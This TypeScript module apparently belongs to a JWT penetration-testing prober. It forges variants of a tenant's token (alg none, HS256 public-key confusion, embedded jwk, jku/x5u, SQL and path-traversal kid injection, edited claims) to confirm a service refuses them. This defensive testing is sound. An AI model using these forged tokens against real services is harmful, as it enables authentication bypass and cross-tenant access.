// Forged and foreign variants of one of A's bearer JWTs: what a pen tester tries against a service that
// takes JWTs. Every variant must be refused like no credential at all. Each is made with jose (signing
// with an attacker's key, HS256 keyed with the target's own public key, A's issuer key when the
// configuration gives it); only the unsecured `alg: none` tokens are put together from base64url parts,
// as they carry no signature. `jku` and `x5u` point at a listener the prober runs on 127.0.0.1: any
// fetch of it is a leak, whatever the answer.
import { createPublicKey, type JsonWebKey as NodeJwk } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import {
  decodeJwt,
  decodeProtectedHeader,
  exportJWK,
  generateKeyPair,
  importJWK,
  SignJWT,
  type CryptoKey,
  type JWK,
  type JWTPayload,
  type KeyObject,
  type ProtectedHeaderParameters,
} from 'jose';

/** Where A's token comes from and what B's claims are (from the target or the configuration). */
export interface TokenSetup {
  /** One of A's access tokens. */
  readonly token: string;
  /** The header that carries it (default `authorization`) and the text before it (default `Bearer `). */
  readonly header?: string;
  readonly scheme?: string;
  /** Where the target publishes its public keys; `<iss>/.well-known/openid-configuration` is tried too. */
  readonly jwksUrls?: readonly string[];
  /** The claims that name the tenant, with B's values (e.g. `{dom: "dom_…", aud: "…"}`). */
  readonly foreignClaims: Readonly<Record<string, unknown>>;
  /** A's issuer's private key (JWK), when the prober may mint A's tokens (a test issuer). */
  readonly signingKey?: JWK;
  /** B's issuer, when B's tokens come from another issuer: A's claims are presented as from it. */
  readonly foreignIssuer?: string;
}

/**
 * The token attack kinds, each reported as `token[<kind>]`, with what a leak means.
 */
export const tokenAttacks = {
  'alg-none': "An unsecured token (alg none, None, NONE, nOnE) with A's claims was accepted.",
  signature: "A's token with its signature stripped or truncated was accepted.",
  'hs256-public-key':
    "A token signed with HS256 keyed with the target's own public key (PEM, JWK JSON or raw bytes) was accepted.",
  'embedded-jwk': "A token signed by an attacker's key, carried in its own `jwk` header, was accepted.",
  jku: "A token whose `jku` header named a key set on the prober's listener was accepted, or the key set was fetched.",
  x5u: "A token whose `x5u` header named a certificate on the prober's listener was accepted, or the URL was fetched.",
  kid: 'A token with an injected `kid` (path traversal, SQL, empty) signed with a guessable key was accepted.',
  'edited-payload':
    "A's token with its claims edited (the tenant claims set to B's or repeated with B's values, or `exp` extended), keeping its signature, was accepted.",
  expired: "An expired token with A's claims was accepted.",
  'not-yet-valid': "A token with A's claims whose `nbf` lies in the future was accepted.",
  audience: "A token with A's claims for another audience was accepted.",
  issuer: "A token with A's claims from another issuer was accepted.",
  'duplicate-members':
    "A's token with duplicate JSON members in its header (a second `alg` or `kid`), keeping its signature, was accepted.",
  'foreign-issuer': "A's claims presented as issued by B's issuer were accepted.",
} as const;

export type TokenAttack = keyof typeof tokenAttacks;

export interface ForgedToken {
  readonly kind: TokenAttack;
  /** Which variant of the kind, e.g. `None`, `pem`. */
  readonly variant: string;
  readonly token: string;
  /** For `jku`/`x5u`: the listener path the token names; a fetch of it is a leak. */
  readonly fetchPath?: string;
}

const enc = new TextEncoder();
const b64 = (text: string) => Buffer.from(text).toString('base64url');

/** The listener `jku` and `x5u` point at: it serves the attacker's key set and remembers every path asked. */
export class KeyListener {
  private constructor(
    private readonly server: Server,
    private readonly fetched: ReadonlySet<string>,
    readonly base: string,
  ) {}

  static async start(jwks: { keys: JWK[] }): Promise<KeyListener> {
    const fetched = new Set<string>();
    const server = createServer((request, response) => {
      fetched.add((request.url ?? '/').split('?')[0]!);
      if ((request.url ?? '').includes('/jku/')) {
        response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(jwks));
      } else response.writeHead(404).end();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as AddressInfo;
    return new KeyListener(server, fetched, `http://127.0.0.1:${port}`);
  }

  wasFetched(path: string): boolean {
    return this.fetched.has(path);
  }

  close(): Promise<void> {
    return new Promise((resolve) => {
      this.server.closeAllConnections();
      this.server.close(() => resolve());
    });
  }
}

/** The target's published public keys, from the first URL that answers a key set, or none. */
export async function fetchPublicKeys(setup: TokenSetup, timeoutMs = 5_000): Promise<JWK[]> {
  const urls = [...(setup.jwksUrls ?? [])];
  let iss: unknown;
  try {
    iss = decodeJwt(setup.token).iss;
  } catch {
    iss = undefined;
  }
  const get = async (url: string): Promise<unknown> => {
    try {
      const res = await fetch(url, { signal: AbortSignal.timeout(timeoutMs), redirect: 'manual' });
      return res.ok ? await res.json() : null;
    } catch {
      return null;
    }
  };
  if (typeof iss === 'string' && /^https?:\/\//.test(iss)) {
    const discovery = await get(`${iss.replace(/\/+$/, '')}/.well-known/openid-configuration`);
    const uri = (discovery as { jwks_uri?: unknown } | null)?.jwks_uri;
    if (typeof uri === 'string') urls.push(uri);
  }
  for (const url of urls) {
    const keys = ((await get(url)) as { keys?: unknown } | null)?.keys;
    if (Array.isArray(keys) && keys.length > 0)
      return keys.filter((k): k is JWK => typeof k === 'object' && k !== null && 'kty' in k);
  }
  return [];
}

/** The encodings of a public key a confused HS256 verifier might use as its secret. */
function publicKeySecrets(jwk: JWK): { variant: string; secret: Uint8Array }[] {
  const out: { variant: string; secret: Uint8Array }[] = [];
  const { d: _d, p: _p, q: _q, dp: _dp, dq: _dq, qi: _qi, ...pub } = jwk;
  try {
    const pem = createPublicKey({ key: pub as NodeJwk, format: 'jwk' })
      .export({ type: 'spki', format: 'pem' })
      .toString();
    // With and without the final newline: key stores differ in it, and the HMAC sees every byte.
    out.push({ variant: 'pem', secret: enc.encode(pem) });
    out.push({ variant: 'pem (no final newline)', secret: enc.encode(pem.trimEnd()) });
  } catch {
    // A key node cannot read: the other encodings are still tried.
  }
  out.push({ variant: 'jwk', secret: enc.encode(JSON.stringify(pub)) });
  const raw = jwk.kty === 'RSA' ? jwk.n : jwk.x;
  if (typeof raw === 'string') out.push({ variant: 'raw', secret: Buffer.from(raw, 'base64url') });
  return out;
}

const asymmetric = /^(RS|PS|ES)(256|384|512)$|^EdDSA$|^Ed25519$/;

/**
 * Makes the forged variants of A's token. `fetchBase` is the listener's URL; `remote(kind)` gives each
 * `jku`/`x5u` token its own path, so a fetch is blamed on the operation that sent it.
 */
export class TokenForge {
  private constructor(
    private readonly setup: TokenSetup,
    private readonly header: ProtectedHeaderParameters,
    private readonly payload: JWTPayload,
    private readonly publicKeys: readonly JWK[],
    private readonly attacker: { alg: string; key: CryptoKey | KeyObject; jwk: JWK },
    private readonly issuerKey: CryptoKey | KeyObject | Uint8Array | null,
  ) {}

  /** Throws when A's token is not a JWT. */
  static async create(setup: TokenSetup, publicKeys: readonly JWK[]): Promise<TokenForge> {
    const header = decodeProtectedHeader(setup.token);
    const payload = decodeJwt(setup.token);
    const alg = typeof header.alg === 'string' && asymmetric.test(header.alg) ? header.alg : 'ES256';
    const pair = await generateKeyPair(alg, { extractable: true });
    const jwk = { ...(await exportJWK(pair.publicKey)), kid: 'bulkhead-verify', alg };
    const issuerKey =
      setup.signingKey === undefined
        ? null
        : await importJWK(setup.signingKey, setup.signingKey.alg ?? header.alg);
    return new TokenForge(setup, header, payload, publicKeys, { alg, key: pair.privateKey, jwk }, issuerKey);
  }

  /** A's header as A's issuer signs it. */
  private get signedHeader(): ProtectedHeaderParameters & { alg: string } {
    return { ...this.header, alg: this.header.alg ?? 'EdDSA' };
  }

  /** The key set the listener serves for `jku`. */
  get attackerKeys(): { keys: JWK[] } {
    return { keys: [this.attacker.jwk] };
  }

  private parts(): [string, string, string] {
    const [h, p, s] = this.setup.token.split('.');
    return [h ?? '', p ?? '', s ?? ''];
  }

  /** A's header and signature around another payload text. */
  private keepSignature(payload: string, header?: string): string {
    const [h, , s] = this.parts();
    return `${header ?? h}.${b64(payload)}.${s}`;
  }

  /** Claims changed: signed with A's issuer key when given, else A's signature kept (which must fail). */
  private async claims(changes: JWTPayload): Promise<string> {
    const payload = { ...this.payload, ...changes };
    if (this.issuerKey === null) return this.keepSignature(JSON.stringify(payload));
    return new SignJWT(payload).setProtectedHeader(this.signedHeader).sign(this.issuerKey);
  }

  private signAttacker(header: Record<string, unknown>, payload: JWTPayload = this.payload): Promise<string> {
    return new SignJWT(payload)
      .setProtectedHeader({ ...header, alg: this.attacker.alg })
      .sign(this.attacker.key);
  }

  /** Every variant, with `jku`/`x5u` naming `fetchBase` + a path unique to `tag`. */
  async forge(fetchBase: string, tag: string): Promise<ForgedToken[]> {
    const out: ForgedToken[] = [];
    const add = (kind: TokenAttack, variant: string, token: string, fetchPath?: string) =>
      out.push({ kind, variant, token, ...(fetchPath === undefined ? {} : { fetchPath }) });
    const [h, p, s] = this.parts();
    const now = Math.floor(Date.now() / 1000);
    const { kid: _kid, ...header } = this.header;

    for (const alg of ['none', 'None', 'NONE', 'nOnE'])
      add('alg-none', alg, `${b64(JSON.stringify({ ...this.header, alg }))}.${p}.`);

    add('signature', 'stripped', `${h}.${p}.`);
    add('signature', 'absent', `${h}.${p}`);
    add('signature', 'truncated', `${h}.${p}.${s.slice(0, Math.max(0, s.length - 6))}`);

    // The key A's token names, or the first published one.
    const named = this.publicKeys.find((k) => k.kid !== undefined && k.kid === this.header.kid);
    for (const key of named !== undefined ? [named] : this.publicKeys.slice(0, 1)) {
      for (const { variant, secret } of publicKeySecrets(key)) {
        const token = await new SignJWT(this.payload)
          .setProtectedHeader({ ...this.header, alg: 'HS256' })
          .sign(secret);
        add('hs256-public-key', variant, token);
      }
    }

    add('embedded-jwk', 'jwk', await this.signAttacker({ ...header, jwk: this.attacker.jwk }));
    const jku = `/jku/${tag}`;
    add(
      'jku',
      'jku',
      await this.signAttacker({ ...header, kid: this.attacker.jwk.kid, jku: `${fetchBase}${jku}` }),
      jku,
    );
    const x5u = `/x5u/${tag}`;
    add('x5u', 'x5u', await this.signAttacker({ ...header, x5u: `${fetchBase}${x5u}` }), x5u);

    const hs = (kid: string, secret: string) =>
      new SignJWT(this.payload).setProtectedHeader({ ...header, alg: 'HS256', kid }).sign(enc.encode(secret));
    add('kid', 'path traversal', await hs('../../../../../../../../../dev/null', '\0'));
    add('kid', 'sql', await hs("x' UNION SELECT 'bulkhead-verify' -- ", 'bulkhead-verify'));
    add('kid', 'empty', await this.signAttacker({ ...header, kid: '' }));

    add(
      'edited-payload',
      "B's claims",
      this.keepSignature(JSON.stringify({ ...this.payload, ...this.setup.foreignClaims })),
    );
    add(
      'edited-payload',
      'exp extended',
      this.keepSignature(JSON.stringify({ ...this.payload, exp: now + 365 * 86_400 })),
    );
    add('expired', 'exp past', await this.claims({ iat: now - 7200, nbf: now - 7200, exp: now - 3600 }));
    add('not-yet-valid', 'nbf future', await this.claims({ iat: now, nbf: now + 3600, exp: now + 7200 }));
    add('audience', 'other aud', await this.claims({ aud: 'https://bulkhead-verify.invalid/' }));
    add('issuer', 'other iss', await this.claims({ iss: 'https://bulkhead-verify.invalid/' }));

    // Duplicate members, A's signature kept: a second `alg` or `kid` after A's header (a parser that
    // reads the first for the check and the last for the key), and B's claims repeated after A's payload
    // (an edit that a parser keeping the first member would not see).
    const headerText = JSON.stringify(this.header);
    add('duplicate-members', 'alg', `${b64(`${headerText.slice(0, -1)},"alg":"HS256"}`)}.${p}.${s}`);
    add(
      'duplicate-members',
      'kid',
      `${b64(`${headerText.slice(0, -1)},"kid":"bulkhead-verify"}`)}.${p}.${s}`,
    );
    const payloadText = JSON.stringify(this.payload);
    const extra = Object.entries(this.setup.foreignClaims)
      .map(([k, v]) => `,${JSON.stringify(k)}:${JSON.stringify(v)}`)
      .join('');
    add('edited-payload', "B's claims repeated", this.keepSignature(`${payloadText.slice(0, -1)}${extra}}`));

    // B's issuer, when it is not A's own (one issuer for every tenant makes this A's genuine token).
    if (this.setup.foreignIssuer !== undefined && this.setup.foreignIssuer !== this.payload.iss)
      add('foreign-issuer', "B's issuer", await this.claims({ iss: this.setup.foreignIssuer }));
    return out;
  }
}
